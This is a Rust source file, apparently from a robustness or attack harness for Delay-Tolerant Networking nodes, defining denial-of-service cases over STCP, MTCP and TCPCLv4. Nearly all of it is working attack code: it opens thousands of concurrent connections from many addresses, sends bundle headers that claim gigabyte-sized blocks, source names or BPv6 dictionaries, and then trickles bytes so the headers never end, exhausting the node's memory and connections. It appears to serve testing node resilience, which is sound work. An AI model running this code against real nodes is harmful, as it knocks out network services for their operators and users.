//! Thousands of concurrent bundles whose headers never end.

use super::{Case, Outcome, Target, open_many};
use crate::attack::wire::bundle::{Bundle, put};
use crate::attack::wire::ltp::put_sdnv;
use crate::attack::wire::tcpcl::{CONTACT, START, segment_head, sess_init};
use crate::attack::wire::{connect, discard, one_of_many, stranger};
use anyhow::Result;
use std::io::{ErrorKind, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::Duration;

/// Endless headers over STCP.
pub const STCP: Case = Case {
    name: "stcp-endless-heads",
    what: "3,000 streams that stay open, each with 64 kB of a bundle's head (an unknown block, the name of a source, or a \
           dictionary, of a gigabyte) and then a byte of it at a time.",
    run: |target| run(target, target.stcp, &HeadFraming { begin: stcp, more: |_| Vec::new() }, &MANY),
};
/// Endless headers over STCP at full speed.
pub const STCP_FAST: Case = Case {
    name: "stcp-fast-endless-heads",
    what: "600 streams from as many addresses, whose heads never end and come as fast as the node reads.",
    run: |target| run(target, target.stcp, &HeadFraming { begin: stcp, more: |_| Vec::new() }, &FAST),
};
/// Endless headers over MTCP.
pub const MTCP: Case = Case {
    name: "mtcp-endless-heads",
    what: "The same over MTCP.",
    run: |target| run(target, target.mtcp, &HeadFraming { begin: mtcp, more: |_| Vec::new() }, &MANY),
};
/// Endless headers over TCPCLv4.
pub const TCPCL: Case = Case {
    name: "tcpcl-endless-heads",
    what: "The same in the transfers of 3,000 sessions of TCPCLv4.",
    run: |target| {
        run(target, target.tcpcl, &HeadFraming { begin: tcpcl, more: |len| segment_head(0, 0, None, len) }, &MANY)
    },
};
/// Endless headers over TCPCLv4 at full speed.
pub const TCPCL_FAST: Case = Case {
    name: "tcpcl-fast-endless-heads",
    what: "600 sessions of TCPCLv4 from as many addresses, whose heads never end and come as fast as the node reads.",
    run: |target| {
        run(target, target.tcpcl, &HeadFraming { begin: tcpcl, more: |len| segment_head(0, 0, None, len) }, &FAST)
    },
};

/// Number, origin and pace of a case's streams.
struct Crowd {
    streams: u64,
    from: fn(u64) -> Ipv4Addr,
    /// Bytes per write after the first.
    piece: usize,
    /// Pause between two rounds over all streams.
    pause: Duration,
}
const MANY: Crowd = Crowd {
    streams: 3000,
    from: |number| stranger((number % 10 + 1) as u8),
    piece: 1,
    pause: Duration::from_millis(200),
};
const FAST: Crowd = Crowd {
    streams: 600,
    // From 256 on: addresses that no other case uses.
    from: |number| one_of_many(number as u16 + 256),
    piece: 64_000,
    pause: Duration::from_millis(1),
};
/// Header bytes of the first write.
const AT_ONCE: usize = 64_000;
/// Claimed length of the header item or of the bundle.
const WHOLE: u64 = 1_000_000_000;

/// Encoding of a bundle's bytes in one convergence layer.
struct HeadFraming {
    /// Bytes that precede the first part; the argument is the length of the part.
    begin: fn(u64) -> Vec<u8>,
    /// Bytes that precede each further part; the argument is the length of the part.
    more: fn(u64) -> Vec<u8>,
}

fn stcp(_: u64) -> Vec<u8> {
    (WHOLE as u32 + 1000).to_be_bytes().to_vec()
}
fn mtcp(_: u64) -> Vec<u8> {
    [&[0x5b][..], &(WHOLE + 1000).to_be_bytes()].concat()
}
fn tcpcl(first: u64) -> Vec<u8> {
    [CONTACT, &sess_init("ipn:66.0"), &segment_head(START, 0, Some(WHOLE + 1000), first)].concat()
}

/// Headers of three kinds: an unknown block, a long source name, and a dictionary of BPv6, 1 GB each.
fn heads() -> [Vec<u8>; 3] {
    let mut block = Bundle::new("ipn:1.22", 1).primary();
    // A block of type 200, number 2, without flags and CRC, before 1 GB of data.
    block.extend([0x85, 24, 200, 2, 0, 0]);
    put(&mut block, 2, WHOLE);
    // A primary block whose source is a `dtn` name of 1 GB.
    let mut name = vec![0x9f, 0x89, 7, 0, 2, 0x82, 2, 0x82, 1, 22, 0x82, 1];
    put(&mut name, 3, WHOLE);
    // BPv6 states the dictionary's length before it (RFC 5050 section 4.5.1).
    let mut dictionary = vec![6, 0x81, 0x10];
    put_sdnv(&mut dictionary, WHOLE);
    [0, 4, 8, 12, 8, 12, 8, 12, 1, 1, 3600, WHOLE - 100].into_iter().for_each(|value| put_sdnv(&mut dictionary, value));
    [block, name, dictionary].map(|mut head| {
        head.resize(AT_ONCE, b'x');
        head
    })
}

fn run(target: &Target, at: SocketAddr, framing: &HeadFraming, crowd: &Crowd) -> Result<Outcome> {
    let first = heads().map(|head| [(framing.begin)(head.len() as u64), head].concat());
    let more = [(framing.more)(crowd.piece as u64), vec![b'x'; crowd.piece]].concat();
    let mut opened = open_many(target, crowd.streams, |number| {
        let stream = connect((crowd.from)(number), at)?;
        stream.set_nonblocking(true)?;
        let mut head = HeadSending { stream, kind: number as usize % 3, sent: 0, open: true };
        head.send(&first, &more);
        Ok(head)
    });
    let most = opened.len();
    while !target.over() {
        for head in &mut opened {
            head.send(&first, &more);
        }
        std::thread::sleep(crowd.pause);
    }
    let sent: usize = opened.iter().map(|head| head.sent).sum();
    let open = opened.iter().filter(|head| head.open && discard(&head.stream).1).count();
    Ok(Outcome::of(format!("{most} opened, {open} still open, {} MB", sent / 1_000_000)))
}

/// Progress of one stream.
struct HeadSending {
    stream: TcpStream,
    kind: usize,
    sent: usize,
    open: bool,
}
impl HeadSending {
    /// Sends the rest of the first part, then further parts, as far as the socket accepts them.
    fn send(&mut self, first: &[Vec<u8>; 3], more: &[u8]) {
        let first = &first[self.kind];
        let next = match first.get(self.sent..) {
            Some(rest) if !rest.is_empty() => rest,
            // A part that was cut continues where it stopped.
            _ => &more[(self.sent - first.len()) % more.len()..],
        };
        if !self.open {
            return;
        }
        match self.stream.write(next) {
            Ok(sent) => self.sent += sent,
            Err(why) => self.open = why.kind() == ErrorKind::WouldBlock,
        }
        // Answers are discarded: unread ones would keep the node from reading.
        let _ = discard(&self.stream);
        let _ = self.stream.set_nonblocking(true);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn heads_never_end_at_once() {
        let [block, name, dictionary] = heads();
        assert!([&block, &name, &dictionary].iter().all(|head| head.len() == AT_ONCE));
        assert_eq!((block[0], name[0], dictionary[0]), (0x9f, 0x9f, 6));
        assert!(block.windows(6).any(|bytes| bytes == [0x85, 24, 200, 2, 0, 0]));
        assert_eq!(name[12..17], [0x7a, 0x3b, 0x9a, 0xca, 0]);
    }
}
